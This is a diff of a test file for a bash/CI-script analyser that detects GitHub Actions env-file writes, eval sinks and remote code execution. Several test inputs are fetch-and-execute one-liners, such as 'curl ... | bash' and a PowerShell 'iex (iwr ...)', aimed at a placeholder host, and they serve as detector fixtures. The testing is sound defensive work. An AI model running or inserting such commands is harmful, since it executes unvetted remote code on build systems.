@@ -88,8 +88,8 @@ describe('env file writes (bash)', () => {
     ]);
   });
 
-  it("cat >> \"$GITHUB_OUTPUT\" <<'EOF' (quoted delimiter, redirect first)", () => {
-    const s = "cat >> \"$GITHUB_OUTPUT\" <<'EOF'\nv=$NOT_EXPANDED\nEOF\n";
+  it('cat >> "$GITHUB_OUTPUT" <<\'EOF\' (quoted delimiter, redirect first)', () => {
+    const s = 'cat >> "$GITHUB_OUTPUT" <<\'EOF\'\nv=$NOT_EXPANDED\nEOF\n';
     const f = bash(s);
     expect(f.envFileWrites).toEqual([
       { target: 'GITHUB_OUTPUT', start: 0, end: s.length - 1, written: [spanOf(s, 'v=$NOT_EXPANDED\n')], names: ['v'] },
@@ -244,7 +244,7 @@ describe('eval sinks (bash)', () => {
       'source ./env.sh',
       '. "$HOME/.cargo/env"',
       'bash -c "echo $X"',
-      'sudo sh -ec \'make install\'',
+      "sudo sh -ec 'make install'",
       'python3 -c "print(1)"',
       'node -e "$JS"',
     ].join('\n');
@@ -385,7 +385,7 @@ describe('template expressions', () => {
     const s = [
       'echo ${{ fromJSON(\'{"a": "}}"}\').a }}',
       'if [ "${{ matrix.os }}" == "linux" ]; then make; fi',
-      'run ${{ format(\'{0}\',',
+      "run ${{ format('{0}',",
       '  inputs.x) }} --flag',
       'deploy --env $[[ inputs.environment ]] "$TOKEN"',
     ].join('\n');
@@ -403,9 +403,62 @@ describe('template expressions', () => {
   });
 });
 
+describe('tree-sitter-bash quirks worked around', () => {
+  it('a line after a 3-stage pipeline is not glued onto its last command', () => {
+    const s = 'a | grep x | head -30\necho "X=1" >> $GITHUB_ENV\nb | c | d\necho B && cd s\n';
+    const f = bash(s);
+    expect(f.commands.map((c) => [c.name, c.args])).toEqual([
+      ['a', []],
+      ['grep', ['x']],
+      ['head', ['-30']],
+      ['echo', ['X=1']],
+      ['b', []],
+      ['c', []],
+      ['d', []],
+      ['echo', ['B']],
+      ['cd', ['s']],
+    ]);
+    expect(f.envFileWrites).toEqual([
+      { target: 'GITHUB_ENV', ...at(s, 'echo "X=1" >> $GITHUB_ENV'), written: [spanOf(s, '"X=1"')], names: ['X'] },
+    ]);
+  });
+
+  it('a redirect after `a && b` belongs to b only', () => {
+    const s = 'cd out && echo "A=1" >> $GITHUB_ENV\ncd d && cat <<EOF >> "$GITHUB_OUTPUT"\nk=v\nEOF\n';
+    const f = bash(s);
+    expect(f.envFileWrites).toEqual([
+      { target: 'GITHUB_ENV', ...at(s, 'echo "A=1" >> $GITHUB_ENV'), written: [spanOf(s, '"A=1"')], names: ['A'] },
+      { target: 'GITHUB_OUTPUT', start: at(s, 'cat <<EOF').start, end: at(s, 'k=v\nEOF').end, written: [spanOf(s, 'k=v\n')], names: ['k'] },
+    ]);
+  });
+
+  it('a heredoc program after `cd dir &&` is still an eval sink', () => {
+    const s = "cd d && python3 - <<'PY'\nprint(1)\nPY\n";
+    expect(bash(s).evalSinks).toEqual([
+      {
+        command: 'python3 <<',
+        start: at(s, 'python3').start,
+        end: at(s, 'print(1)\nPY').end,
+        argStart: at(s, 'print(1)').start,
+        argEnd: at(s, 'print(1)\n').end,
+      },
+    ]);
+  });
+
+  it('nested PowerShell: pwsh -c "iex (iwr ...)" from bash', () => {
+    const s = 'pwsh -NoProfile -c "iex (iwr https://a.example/i.ps1)"';
+    const f = bash(s);
+    expect(f.evalSinks.map((e) => e.command)).toEqual(['pwsh -Command']);
+    expect(f.remoteExecutions).toEqual([
+      { kind: 'iex', ...spanOf(s, 'iex (iwr https://a.example/i.ps1)'), url: 'https://a.example/i.ps1' },
+    ]);
+  });
+});
+
 describe('syntax errors and limits', () => {
   it('a broken line still yields facts before and after it', () => {
-    const s = 'echo "A=1" >> $GITHUB_ENV\nif [ "$x" = "y" then\ncurl -s https://a.example/i | bash\necho "B=$V" >> "$GITHUB_OUTPUT"\nnpm ci\n';
+    const s =
+      'echo "A=1" >> $GITHUB_ENV\nif [ "$x" = "y" then\ncurl -s https://a.example/i | bash\necho "B=$V" >> "$GITHUB_OUTPUT"\nnpm ci\n';
     const f = bash(s);
     expect(f.parsed).toBe(false);
     expect(f.envFileWrites.map((w) => [w.target, w.names, w.start])).toEqual([
